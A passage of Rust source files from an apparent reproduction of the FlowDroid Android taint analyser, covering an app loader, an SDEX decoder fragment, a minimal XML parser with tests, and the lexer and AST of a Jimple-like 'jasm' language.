            let base = if dec.u8()? == 1 { Some(dec.local()?) } else { None };
            let class_name = dec.str_idx()?;
            let mname = dec.str_idx()?;
            let ret = dec.type_desc()?;
            let nparams = dec.uleb()? as usize;
            let mut params = Vec::with_capacity(nparams);
            for _ in 0..nparams {
                params.push(dec.type_desc()?);
            }
            let nargs = dec.uleb()? as usize;
            let mut args = Vec::with_capacity(nargs);
            for _ in 0..nargs {
                args.push(dec.operand()?);
            }
            if nargs != nparams {
                return Err(dec.err("argument/parameter count mismatch"));
            }
            let class = dec.program.class_id(&class_name);
            let name = dec.program.intern(&mname);
            Stmt::Invoke {
                result,
                call: InvokeExpr {
                    kind,
                    base,
                    callee: MethodRef { class, subsig: SubSig { name, params, ret } },
                    args,
                },
            }
        }
        OP_IF => {
            let ctag = dec.u8()?;
            let cond = if ctag == 0 {
                Cond::Opaque
            } else {
                let op = decode_cmpop(ctag - 1).ok_or_else(|| dec.err("bad cmp op"))?;
                let a = dec.operand()?;
                let b = dec.operand()?;
                Cond::Cmp(op, a, b)
            };
            let t = dec.uleb()?;
            Stmt::If { cond, target: target_check(dec, t)? }
        }
        OP_GOTO => {
            let t = dec.uleb()?;
            Stmt::Goto { target: target_check(dec, t)? }
        }
        OP_RETURN => {
            let value = if dec.u8()? == 1 { Some(dec.operand()?) } else { None };
            Stmt::Return { value }
        }
        OP_THROW => Stmt::Throw { value: dec.operand()? },
        t => return Err(dec.err(format!("bad opcode {t}"))),
    })
}

fn decode_binop(code: u8) -> Option<BinOp> {
    Some(match code {
        0 => BinOp::Add,
        1 => BinOp::Sub,
        2 => BinOp::Mul,
        3 => BinOp::Div,
        4 => BinOp::Rem,
        5 => BinOp::And,
        6 => BinOp::Or,
        7 => BinOp::Xor,
        8 => BinOp::Shl,
        9 => BinOp::Shr,
        10 => BinOp::Cmp,
        _ => return None,
    })
}

fn decode_cmpop(code: u8) -> Option<CmpOp> {
    Some(match code {
        0 => CmpOp::Eq,
        1 => CmpOp::Ne,
        2 => CmpOp::Lt,
        3 => CmpOp::Le,
        4 => CmpOp::Gt,
        5 => CmpOp::Ge,
        _ => return None,
    })
}
