//! The app loader: archive/parts → manifest + layouts + resources + IR.

use crate::jasm::{self, ParseError};
use crate::layout::{Layout, ResourceTable};
use crate::manifest::Manifest;
use crate::rpk::{Archive, ArchiveError};
use crate::sdex::{self, SdexError};
use crate::xml::XmlError;
use flowdroid_ir::{ClassId, FxHashMap, Program};
use std::fmt;

/// Errors raised while loading an app.
#[derive(Debug)]
pub enum AppError {
    /// Malformed manifest or layout XML.
    Xml(XmlError),
    /// Malformed `jasm` code.
    Parse(ParseError),
    /// Malformed SDEX binary classes.
    Sdex(SdexError),
    /// Malformed RPK archive.
    Archive(ArchiveError),
    /// A required artifact is missing (e.g. the manifest).
    Missing(String),
    /// Filesystem error while loading from a directory.
    Io(std::io::Error),
}

impl fmt::Display for AppError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AppError::Xml(e) => write!(f, "app xml error: {e}"),
            AppError::Parse(e) => write!(f, "app code error: {e}"),
            AppError::Sdex(e) => write!(f, "app sdex error: {e}"),
            AppError::Archive(e) => write!(f, "app archive error: {e}"),
            AppError::Missing(what) => write!(f, "app is missing {what}"),
            AppError::Io(e) => write!(f, "app io error: {e}"),
        }
    }
}

impl std::error::Error for AppError {}

impl From<XmlError> for AppError {
    fn from(e: XmlError) -> Self {
        AppError::Xml(e)
    }
}

impl From<ParseError> for AppError {
    fn from(e: ParseError) -> Self {
        AppError::Parse(e)
    }
}

impl From<SdexError> for AppError {
    fn from(e: SdexError) -> Self {
        AppError::Sdex(e)
    }
}

impl From<ArchiveError> for AppError {
    fn from(e: ArchiveError) -> Self {
        AppError::Archive(e)
    }
}

impl From<std::io::Error> for AppError {
    fn from(e: std::io::Error) -> Self {
        AppError::Io(e)
    }
}

/// A fully loaded app: the analysis input.
///
/// Produced by [`App::from_archive`], [`App::from_parts`] or
/// [`App::from_dir`]; consumed by the lifecycle model and the taint
/// analysis. The IR classes live in the [`Program`] passed to the
/// loader (which typically already contains the Android platform
/// stubs).
#[derive(Debug)]
pub struct App {
    /// The parsed manifest.
    pub manifest: Manifest,
    /// Parsed layouts by resource name.
    pub layouts: FxHashMap<String, Layout>,
    /// The app's resource-id table.
    pub resources: ResourceTable,
    /// Ids of the classes the app contributed to the program.
    pub classes: Vec<ClassId>,
}

impl App {
    /// Loads an app from its constituent artifacts.
    ///
    /// `layouts` are `(resource name, xml)` pairs; `jasm_src` is the
    /// app's code.
    ///
    /// # Errors
    ///
    /// Returns [`AppError`] if any artifact fails to parse.
    pub fn from_parts(
        program: &mut Program,
        manifest_xml: &str,
        layouts: &[(&str, &str)],
        jasm_src: &str,
    ) -> Result<App, AppError> {
        let manifest = Manifest::parse(manifest_xml)?;
        let mut parsed = FxHashMap::default();
        for (name, xml) in layouts {
            parsed.insert((*name).to_owned(), Layout::parse(name, xml)?);
        }
        let resources = ResourceTable::from_layouts(parsed.values());
        let classes = jasm::parse_jasm(program, &resources, jasm_src)?;
        Ok(App { manifest, layouts: parsed, resources, classes })
    }

    /// Loads an app from an RPK [`Archive`].
    ///
    /// Expects `AndroidManifest.xml`, any number of `res/layout/*.xml`
    /// files, and code in `classes.jasm` (text) and/or `classes.sdex`
    /// (binary).
    ///
    /// # Errors
    ///
    /// Returns [`AppError`] if the manifest is missing or any artifact
    /// fails to parse.
    pub fn from_archive(program: &mut Program, archive: &Archive) -> Result<App, AppError> {
        let (manifest, parsed, resources) = Self::load_meta(archive)?;
        let mut classes = Vec::new();
        if let Some(src) = archive.get_str("classes.jasm") {
            classes.extend(jasm::parse_jasm(program, &resources, src)?);
        }
        if let Some(bytes) = archive.get("classes.sdex") {
            classes.extend(sdex::decode(program, bytes)?);
        }
        if classes.is_empty() {
            return Err(AppError::Missing("classes.jasm or classes.sdex".to_owned()));
        }
        Ok(App { manifest, layouts: parsed, resources, classes })
    }

    /// Loads an app from an RPK [`Archive`] like [`App::from_archive`],
    /// but defers SDEX method-body decoding: class/method indexes are
    /// declared eagerly while bodies become pending bodies that the
    /// callgraph closure materializes on first access (see
    /// [`flowdroid_ir::Program::ensure_body`]). `classes.jasm` text has
    /// no body index and is still parsed eagerly.
    ///
    /// # Errors
    ///
    /// Returns [`AppError`] under exactly the same conditions as the
    /// eager loader: lazily loaded bodies are fully validated up front,
    /// so a malformed archive is rejected here, not at materialization.
    pub fn from_archive_lazy(program: &mut Program, archive: &Archive) -> Result<App, AppError> {
        let (manifest, parsed, resources) = Self::load_meta(archive)?;
        let mut classes = Vec::new();
        if let Some(src) = archive.get_str("classes.jasm") {
            classes.extend(jasm::parse_jasm(program, &resources, src)?);
        }
        if let Some(bytes) = archive.get("classes.sdex") {
            classes.extend(sdex::decode_lazy(program, bytes.to_vec().into())?);
        }
        if classes.is_empty() {
            return Err(AppError::Missing("classes.jasm or classes.sdex".to_owned()));
        }
        Ok(App { manifest, layouts: parsed, resources, classes })
    }

    /// Parses the non-code artifacts of an archive: manifest, layouts
    /// and the resource table derived from them.
    fn load_meta(
        archive: &Archive,
    ) -> Result<(Manifest, FxHashMap<String, Layout>, ResourceTable), AppError> {
        let manifest_xml = archive
            .get_str("AndroidManifest.xml")
            .ok_or_else(|| AppError::Missing("AndroidManifest.xml".to_owned()))?;
        let manifest = Manifest::parse(manifest_xml)?;
        let mut parsed = FxHashMap::default();
        let layout_paths: Vec<String> =
            archive.paths_under("res/layout/").map(str::to_owned).collect();
        for path in layout_paths {
            let name = path
                .strip_prefix("res/layout/")
                .and_then(|p| p.strip_suffix(".xml"))
                .unwrap_or(&path)
                .to_owned();
            let xml = archive
                .get_str(&path)
                .ok_or_else(|| AppError::Missing(format!("{path} (not UTF-8)")))?;
            parsed.insert(name.clone(), Layout::parse(&name, xml)?);
        }
        let resources = ResourceTable::from_layouts(parsed.values());
        Ok((manifest, parsed, resources))
    }

    /// Loads an app from a directory with the same layout as an
    /// archive (`AndroidManifest.xml`, `res/layout/*.xml`,
    /// `classes.jasm`/`classes.sdex`).
    ///
    /// # Errors
    ///
    /// Returns [`AppError`] on IO failures or parse errors.
    pub fn from_dir(program: &mut Program, dir: &std::path::Path) -> Result<App, AppError> {
        let mut archive = Archive::new();
        let manifest_path = dir.join("AndroidManifest.xml");
        archive.add("AndroidManifest.xml", std::fs::read(manifest_path)?);
        let layout_dir = dir.join("res/layout");
        if layout_dir.is_dir() {
            for entry in std::fs::read_dir(&layout_dir)? {
                let entry = entry?;
                let name = entry.file_name().to_string_lossy().into_owned();
                if name.ends_with(".xml") {
                    archive.add(format!("res/layout/{name}"), std::fs::read(entry.path())?);
                }
            }
        }
        for code in ["classes.jasm", "classes.sdex"] {
            let path = dir.join(code);
            if path.is_file() {
                archive.add(code, std::fs::read(path)?);
            }
        }
        Self::from_archive(program, &archive)
    }

    /// Bundles raw app artifacts into an RPK archive (the inverse of
    /// [`App::from_archive`]).
    pub fn bundle(manifest_xml: &str, layouts: &[(&str, &str)], jasm_src: &str) -> Archive {
        let mut a = Archive::new();
        a.add("AndroidManifest.xml", manifest_xml.as_bytes());
        for (name, xml) in layouts {
            a.add(format!("res/layout/{name}.xml"), xml.as_bytes());
        }
        a.add("classes.jasm", jasm_src.as_bytes());
        a
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const MANIFEST: &str = r#"<manifest package="com.example">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#;

    const LAYOUT: &str = r#"<LinearLayout>
  <EditText android:id="@+id/pwd" android:inputType="textPassword"/>
  <Button android:id="@+id/go" android:onClick="onGo"/>
</LinearLayout>"#;

    const CODE: &str = r#"
class com.example.Main extends android.app.Activity {
  method onCreate() -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method onGo(v: android.view.View) -> void {
    return
  }
}
"#;

    #[test]
    fn from_parts_loads_everything() {
        let mut p = Program::new();
        let app = App::from_parts(&mut p, MANIFEST, &[("main", LAYOUT)], CODE).unwrap();
        assert_eq!(app.manifest.package, "com.example");
        assert_eq!(app.classes.len(), 1);
        assert!(app.layouts.contains_key("main"));
        assert!(app.resources.widget_id("pwd").is_some());
        assert!(p.find_method("com.example.Main", "onCreate").is_some());
    }

    #[test]
    fn archive_round_trip_loads() {
        let archive = App::bundle(MANIFEST, &[("main", LAYOUT)], CODE);
        let bytes = archive.to_bytes();
        let archive2 = Archive::from_bytes(&bytes).unwrap();
        let mut p = Program::new();
        let app = App::from_archive(&mut p, &archive2).unwrap();
        assert_eq!(app.manifest.launcher().unwrap().class_name, "com.example.Main");
        assert_eq!(app.layouts["main"].click_handlers().count(), 1);
    }

    #[test]
    fn missing_manifest_is_an_error() {
        let mut p = Program::new();
        let a = Archive::new();
        assert!(matches!(
            App::from_archive(&mut p, &a),
            Err(AppError::Missing(m)) if m.contains("Manifest")
        ));
    }

    #[test]
    fn missing_code_is_an_error() {
        let mut p = Program::new();
        let mut a = Archive::new();
        a.add("AndroidManifest.xml", MANIFEST.as_bytes());
        assert!(matches!(
            App::from_archive(&mut p, &a),
            Err(AppError::Missing(m)) if m.contains("classes")
        ));
    }

    #[test]
    fn sdex_classes_load_from_archive() {
        // Author in jasm, encode to SDEX, then load an app whose code is
        // binary-only.
        let mut author = Program::new();
        let rt = crate::layout::ResourceTable::new();
        let ids = crate::jasm::parse_jasm(
            &mut author,
            &rt,
            "class com.example.Main extends android.app.Activity { method onCreate() -> void { return } }",
        )
        .unwrap();
        let sdex = crate::sdex::encode(&author, &ids);
        let mut a = Archive::new();
        a.add("AndroidManifest.xml", MANIFEST.as_bytes());
        a.add("classes.sdex", sdex);
        let mut p = Program::new();
        let app = App::from_archive(&mut p, &a).unwrap();
        assert_eq!(app.classes.len(), 1);
        assert!(p.find_method("com.example.Main", "onCreate").is_some());
    }
}
