//! A minimal, dependency-free XML parser.
//!
//! Supports exactly what Android manifest and layout files need:
//! the XML declaration, comments, elements with attributes (single- or
//! double-quoted), self-closing tags, nested children and text content.
//! Namespace prefixes (`android:id`) are kept verbatim in attribute and
//! element names. Entities `&amp; &lt; &gt; &quot; &apos;` are decoded.

use std::fmt;

/// A parsed XML element.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XmlElement {
    /// Tag name, including any namespace prefix.
    pub name: String,
    /// Attributes in document order as `(name, value)` pairs.
    pub attrs: Vec<(String, String)>,
    /// Child elements in document order.
    pub children: Vec<XmlElement>,
    /// Concatenated direct text content (trimmed).
    pub text: String,
}

impl XmlElement {
    /// The value of attribute `name`, if present.
    pub fn attr(&self, name: &str) -> Option<&str> {
        self.attrs
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }

    /// All direct children with the given tag name.
    pub fn children_named<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a XmlElement> {
        self.children.iter().filter(move |c| c.name == name)
    }

    /// The first direct child with the given tag name.
    pub fn child<'a>(&'a self, name: &'a str) -> Option<&'a XmlElement> {
        self.children_named(name).next()
    }

    /// This element and all descendants, in breadth-first order.
    pub fn descendants(&self) -> Vec<&XmlElement> {
        let mut out = vec![self];
        let mut i = 0;
        while i < out.len() {
            let node: &XmlElement = out[i];
            // Safety of indices: we only append, never remove.
            for c in &node.children {
                out.push(c);
            }
            i += 1;
        }
        out
    }
}

/// An XML parse error with byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XmlError {
    /// Human-readable description.
    pub message: String,
    /// Byte offset into the input where the error was detected.
    pub offset: usize,
}

impl fmt::Display for XmlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "xml error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for XmlError {}

/// Parses a complete XML document, returning its root element.
///
/// # Errors
///
/// Returns [`XmlError`] on malformed input (unterminated tags, mismatched
/// closing tags, missing root, trailing garbage).
pub fn parse(input: &str) -> Result<XmlElement, XmlError> {
    let mut p = Parser { bytes: input.as_bytes(), pos: 0 };
    p.skip_misc()?;
    let root = p.parse_element()?;
    p.skip_misc()?;
    if p.pos < p.bytes.len() {
        return Err(p.err("trailing content after root element"));
    }
    Ok(root)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, message: &str) -> XmlError {
        XmlError { message: message.to_owned(), offset: self.pos }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn starts_with(&self, s: &str) -> bool {
        self.bytes[self.pos..].starts_with(s.as_bytes())
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\r' | b'\n')) {
            self.pos += 1;
        }
    }

    /// Skips whitespace, the XML declaration and comments.
    fn skip_misc(&mut self) -> Result<(), XmlError> {
        loop {
            self.skip_ws();
            if self.starts_with("<?") {
                match find(self.bytes, self.pos, "?>") {
                    Some(end) => self.pos = end + 2,
                    None => return Err(self.err("unterminated <? declaration")),
                }
            } else if self.starts_with("<!--") {
                match find(self.bytes, self.pos, "-->") {
                    Some(end) => self.pos = end + 3,
                    None => return Err(self.err("unterminated comment")),
                }
            } else {
                return Ok(());
            }
        }
    }

    fn parse_name(&mut self) -> Result<String, XmlError> {
        let start = self.pos;
        while let Some(c) = self.peek() {
            if c.is_ascii_alphanumeric() || matches!(c, b':' | b'_' | b'-' | b'.') {
                self.pos += 1;
            } else {
                break;
            }
        }
        if self.pos == start {
            return Err(self.err("expected name"));
        }
        Ok(String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned())
    }

    fn parse_element(&mut self) -> Result<XmlElement, XmlError> {
        if self.peek() != Some(b'<') {
            return Err(self.err("expected '<'"));
        }
        self.pos += 1;
        let name = self.parse_name()?;
        let mut attrs = Vec::new();
        loop {
            self.skip_ws();
            match self.peek() {
                Some(b'/') => {
                    self.pos += 1;
                    if self.peek() != Some(b'>') {
                        return Err(self.err("expected '>' after '/'"));
                    }
                    self.pos += 1;
                    return Ok(XmlElement { name, attrs, children: Vec::new(), text: String::new() });
                }
                Some(b'>') => {
                    self.pos += 1;
                    break;
                }
                Some(_) => {
                    let an = self.parse_name()?;
                    self.skip_ws();
                    if self.peek() != Some(b'=') {
                        return Err(self.err("expected '=' in attribute"));
                    }
                    self.pos += 1;
                    self.skip_ws();
                    let quote = self.peek();
                    if quote != Some(b'"') && quote != Some(b'\'') {
                        return Err(self.err("expected quoted attribute value"));
                    }
                    let q = quote.unwrap();
                    self.pos += 1;
                    let start = self.pos;
                    while self.peek().is_some() && self.peek() != Some(q) {
                        self.pos += 1;
                    }
                    if self.peek() != Some(q) {
                        return Err(self.err("unterminated attribute value"));
                    }
                    let raw = String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned();
                    self.pos += 1;
                    attrs.push((an, decode_entities(&raw)));
                }
                None => return Err(self.err("unterminated start tag")),
            }
        }
        // Content.
        let mut children = Vec::new();
        let mut text = String::new();
        loop {
            if self.starts_with("<!--") {
                match find(self.bytes, self.pos, "-->") {
                    Some(end) => self.pos = end + 3,
                    None => return Err(self.err("unterminated comment")),
                }
            } else if self.starts_with("</") {
                self.pos += 2;
                let close = self.parse_name()?;
                if close != name {
                    return Err(self.err(&format!("mismatched closing tag </{close}> for <{name}>")));
                }
                self.skip_ws();
                if self.peek() != Some(b'>') {
                    return Err(self.err("expected '>' in closing tag"));
                }
                self.pos += 1;
                let text = decode_entities(text.trim());
                return Ok(XmlElement { name, attrs, children, text });
            } else if self.peek() == Some(b'<') {
                children.push(self.parse_element()?);
            } else if self.peek().is_some() {
                text.push(self.bytes[self.pos] as char);
                self.pos += 1;
            } else {
                return Err(self.err(&format!("unterminated element <{name}>")));
            }
        }
    }
}

fn find(bytes: &[u8], from: usize, needle: &str) -> Option<usize> {
    let nb = needle.as_bytes();
    (from..bytes.len().saturating_sub(nb.len() - 1)).find(|&i| bytes[i..].starts_with(nb))
}

fn decode_entities(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_manifest_like_document() {
        let doc = r#"<?xml version="1.0" encoding="utf-8"?>
<!-- a comment -->
<manifest xmlns:android="http://schemas.android.com/apk/res/android"
          package="com.example.app">
    <application android:label="Demo">
        <activity android:name=".MainActivity" android:enabled="true">
            <intent-filter>
                <action android:name="android.intent.action.MAIN"/>
            </intent-filter>
        </activity>
        <service android:name=".Worker"/>
    </application>
</manifest>"#;
        let root = parse(doc).unwrap();
        assert_eq!(root.name, "manifest");
        assert_eq!(root.attr("package"), Some("com.example.app"));
        let app = root.child("application").unwrap();
        assert_eq!(app.children_named("activity").count(), 1);
        assert_eq!(app.children_named("service").count(), 1);
        let act = app.child("activity").unwrap();
        assert_eq!(act.attr("android:name"), Some(".MainActivity"));
        let filter = act.child("intent-filter").unwrap();
        assert_eq!(
            filter.child("action").unwrap().attr("android:name"),
            Some("android.intent.action.MAIN")
        );
    }

    #[test]
    fn self_closing_and_text() {
        let root = parse("<a x='1'><b/>hello<c> world </c></a>").unwrap();
        assert_eq!(root.attr("x"), Some("1"));
        assert_eq!(root.children.len(), 2);
        assert_eq!(root.text, "hello");
        assert_eq!(root.child("c").unwrap().text, "world");
    }

    #[test]
    fn entities_are_decoded() {
        let root = parse(r#"<a v="&lt;&amp;&gt;">&quot;x&quot;</a>"#).unwrap();
        assert_eq!(root.attr("v"), Some("<&>"));
        assert_eq!(root.text, "\"x\"");
    }

    #[test]
    fn descendants_are_breadth_first() {
        let root = parse("<a><b><c/></b><d/></a>").unwrap();
        let names: Vec<_> = root.descendants().iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, vec!["a", "b", "d", "c"]);
    }

    #[test]
    fn error_on_mismatched_close() {
        let err = parse("<a></b>").unwrap_err();
        assert!(err.message.contains("mismatched"), "{err}");
    }

    #[test]
    fn error_on_trailing_garbage() {
        assert!(parse("<a/><b/>").is_err());
    }

    #[test]
    fn error_on_unterminated() {
        assert!(parse("<a><b></a>").is_err());
        assert!(parse("<a").is_err());
        assert!(parse("<a x=1/>").is_err());
    }
}
