#![warn(missing_docs)]

//! Front ends: everything that turns on-disk app artifacts into IR.
//!
//! The original FlowDroid unpacks an APK (a zip archive), converts
//! Dalvik bytecode to Jimple via Dexpler, and parses the binary
//! manifest and layout XML files. This crate provides the equivalent
//! pipeline for our reproduction:
//!
//! * [`xml`] — a minimal from-scratch XML parser,
//! * [`manifest`] — `AndroidManifest.xml` semantics (components,
//!   enabled/launcher flags),
//! * [`layout`] — layout XML semantics (widgets, ids, `android:onClick`
//!   handlers, password fields) and the resource-id table,
//! * [`jasm`] — a Jimple-like text language in which all benchmark apps
//!   are authored (lexer, parser, lowering to [`flowdroid_ir`]),
//! * [`sdex`] — a compact binary class format with an encoder and an
//!   independent decoder (our substitute for dex parsing),
//! * [`emit`] — the inverse of `jasm`: emitting IR back to text,
//! * [`rpk`] — a simple archive container (our substitute for zip/APK),
//! * [`app`] — the app loader tying it all together: directory or RPK
//!   archive → manifest + layouts + resource table + IR classes.

pub mod app;
pub mod emit;
pub mod jasm;
pub mod layout;
pub mod manifest;
pub mod rpk;
pub mod sdex;
pub mod xml;

pub use app::{App, AppError};
pub use emit::emit_jasm;
pub use jasm::{parse_jasm, ParseError};
pub use layout::{Layout, ResourceTable, Widget, WidgetKind};
pub use manifest::{ComponentDecl, ComponentKind, Manifest};
pub use rpk::{Archive, ArchiveError};
pub use xml::{XmlElement, XmlError};
