//! The `jasm` text language: a Jimple-like three-address assembly in
//! which all benchmark apps are authored.
//!
//! `jasm` sits at the same abstraction level as Soot's Jimple (which is
//! what the original FlowDroid analyzes): explicit locals, three-address
//! statements, fully-qualified invoke signatures and statement-level
//! control flow.
//!
//! # Syntax overview
//!
//! ```text
//! class com.example.Main extends android.app.Activity implements a.B {
//!   field user: com.example.User
//!   static field count: int
//!
//!   method onCreate(b: android.os.Bundle) -> void {
//!     let t: java.lang.String
//!     t = staticinvoke <android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
//!     this.user = t
//!     virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
//!     if t == null goto end
//!     nop
//!   label end:
//!     return
//!   }
//!
//!   native method nat(x: int) -> int
//! }
//! ```
//!
//! Statements: `let`, place assignments (`x = y`, `x.f = y`,
//! `static C.f = y`, `a[i] = y` and the mirrored reads), `new C`,
//! `newarray T[n]`, binary/unary operators, `(T) x` casts,
//! `x instanceof T`, the four `…invoke` forms, `if a == b goto L` /
//! `if opaque goto L`, `goto L`, `label L:`, `return [x]`, `throw x`,
//! `nop`. Constants: integers, `"strings"`, `null`, and resource
//! references `@id/name` / `@layout/name` resolved against a
//! [`ResourceTable`].

use crate::layout::ResourceTable;
use flowdroid_ir::{
    BinOp, ClassId, CmpOp, Constant, FxHashMap, FxHashSet, InvokeKind, Label, Local,
    MethodBuilder, Operand, Place, Program, Rvalue, Type, UnOp,
};
use std::fmt;

/// A parse or lowering error with source line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Description of the problem.
    pub message: String,
    /// 1-based source line.
    pub line: u32,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "jasm error at line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for ParseError {}

/// Parses `src` and declares all contained classes into `program`.
///
/// `resources` resolves `@id/...` and `@layout/...` references; pass an
/// empty table for non-Android code.
///
/// Returns the ids of the declared classes.
///
/// # Errors
///
/// Returns [`ParseError`] on syntax errors, unknown locals/labels,
/// unresolvable resource references, or class redeclaration.
pub fn parse_jasm(
    program: &mut Program,
    resources: &ResourceTable,
    src: &str,
) -> Result<Vec<ClassId>, ParseError> {
    let tokens = lex(src)?;
    let ast = Parser { tokens: &tokens, pos: 0 }.parse_file()?;
    lower(program, resources, &ast)
}

// ===================== Lexer =====================

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Ident(String),
    Int(i64),
    Str(String),
    /// `@kind/name` resource reference.
    Res(String, String),
    LBrace,
    RBrace,
    LParen,
    RParen,
    LBracket,
    RBracket,
    Colon,
    Comma,
    Dot,
    Arrow,
    Assign,
    EqEq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
    Plus,
    Minus,
    Star,
    Slash,
    Percent,
    Amp,
    Pipe,
    Caret,
    Shl,
    Shr,
}

#[derive(Debug, Clone, PartialEq)]
struct SpannedTok {
    tok: Tok,
    line: u32,
}

fn lex(src: &str) -> Result<Vec<SpannedTok>, ParseError> {
    let mut out = Vec::new();
    let b = src.as_bytes();
    let mut i = 0;
    let mut line: u32 = 1;
    let err = |msg: &str, line: u32| ParseError { message: msg.to_owned(), line };
    while i < b.len() {
        let c = b[i];
        match c {
            b'\n' => {
                line += 1;
                i += 1;
            }
            b' ' | b'\t' | b'\r' => i += 1,
            b'/' if i + 1 < b.len() && b[i + 1] == b'/' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'"' => {
                i += 1;
                let mut s = String::new();
                loop {
                    if i >= b.len() {
                        return Err(err("unterminated string literal", line));
                    }
                    match b[i] {
                        b'"' => {
                            i += 1;
                            break;
                        }
                        b'\\' if i + 1 < b.len() => {
                            let e = b[i + 1];
                            s.push(match e {
                                b'n' => '\n',
                                b't' => '\t',
                                b'\\' => '\\',
                                b'"' => '"',
                                other => other as char,
                            });
                            i += 2;
                        }
                        b'\n' => return Err(err("newline in string literal", line)),
                        other => {
                            s.push(other as char);
                            i += 1;
                        }
                    }
                }
                out.push(SpannedTok { tok: Tok::Str(s), line });
            }
            b'@' => {
                i += 1;
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let kind = String::from_utf8_lossy(&b[start..i]).into_owned();
                if i >= b.len() || b[i] != b'/' {
                    return Err(err("expected '/' in resource reference", line));
                }
                i += 1;
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let name = String::from_utf8_lossy(&b[start..i]).into_owned();
                if kind.is_empty() || name.is_empty() {
                    return Err(err("malformed resource reference", line));
                }
                out.push(SpannedTok { tok: Tok::Res(kind, name), line });
            }
            b'0'..=b'9' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let text = String::from_utf8_lossy(&b[start..i]).into_owned();
                let v = if let Some(hex) = text.strip_prefix("0x") {
                    i64::from_str_radix(&hex.replace('_', ""), 16)
                } else {
                    text.replace('_', "").parse()
                };
                match v {
                    Ok(v) => out.push(SpannedTok { tok: Tok::Int(v), line }),
                    Err(_) => return Err(err(&format!("bad integer literal `{text}`"), line)),
                }
            }
            b'a'..=b'z' | b'A'..=b'Z' | b'_' | b'$' => {
                let start = i;
                while i < b.len()
                    && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] == b'$')
                {
                    i += 1;
                }
                let text = String::from_utf8_lossy(&b[start..i]).into_owned();
                out.push(SpannedTok { tok: Tok::Ident(text), line });
            }
            _ => {
                let two = if i + 1 < b.len() { &b[i..i + 2] } else { &b[i..i + 1] };
                let (tok, len) = match two {
                    b"->" => (Tok::Arrow, 2),
                    b"==" => (Tok::EqEq, 2),
                    b"!=" => (Tok::Ne, 2),
                    b"<=" => (Tok::Le, 2),
                    b">=" => (Tok::Ge, 2),
                    b"<<" => (Tok::Shl, 2),
                    b">>" => (Tok::Shr, 2),
                    _ => match c {
                        b'{' => (Tok::LBrace, 1),
                        b'}' => (Tok::RBrace, 1),
                        b'(' => (Tok::LParen, 1),
                        b')' => (Tok::RParen, 1),
                        b'[' => (Tok::LBracket, 1),
                        b']' => (Tok::RBracket, 1),
                        b':' => (Tok::Colon, 1),
                        b',' => (Tok::Comma, 1),
                        b'.' => (Tok::Dot, 1),
                        b'=' => (Tok::Assign, 1),
                        b'<' => (Tok::Lt, 1),
                        b'>' => (Tok::Gt, 1),
                        b'+' => (Tok::Plus, 1),
                        b'-' => (Tok::Minus, 1),
                        b'*' => (Tok::Star, 1),
                        b'/' => (Tok::Slash, 1),
                        b'%' => (Tok::Percent, 1),
                        b'&' => (Tok::Amp, 1),
                        b'|' => (Tok::Pipe, 1),
                        b'^' => (Tok::Caret, 1),
                        other => {
                            return Err(err(
                                &format!("unexpected character `{}`", other as char),
                                line,
                            ))
                        }
                    },
                };
                out.push(SpannedTok { tok, line });
                i += len;
            }
        }
    }
    Ok(out)
}

// ===================== AST =====================

#[derive(Debug, Clone, PartialEq)]
enum AstType {
    Void,
    Boolean,
    Byte,
    Char,
    Short,
    Int,
    Long,
    Float,
    Double,
    Named(String),
    Array(Box<AstType>),
}

#[derive(Debug)]
struct AstFile {
    classes: Vec<AstClass>,
}

#[derive(Debug)]
struct AstClass {
    name: String,
    is_interface: bool,
    is_abstract: bool,
    extends: Option<String>,
    implements: Vec<String>,
    fields: Vec<AstField>,
    methods: Vec<AstMethod>,
}

#[derive(Debug)]
struct AstField {
    name: String,
    ty: AstType,
    is_static: bool,
}

#[derive(Debug)]
struct AstMethod {
    name: String,
    params: Vec<(String, AstType)>,
    ret: AstType,
    is_static: bool,
    is_native: bool,
    is_abstract: bool,
    body: Option<Vec<AstStmt>>,
}

#[derive(Debug, Clone)]
struct AstSig {
    class: String,
    ret: AstType,
    name: String,
    params: Vec<AstType>,
}

#[derive(Debug, Clone)]
enum AstOperand {
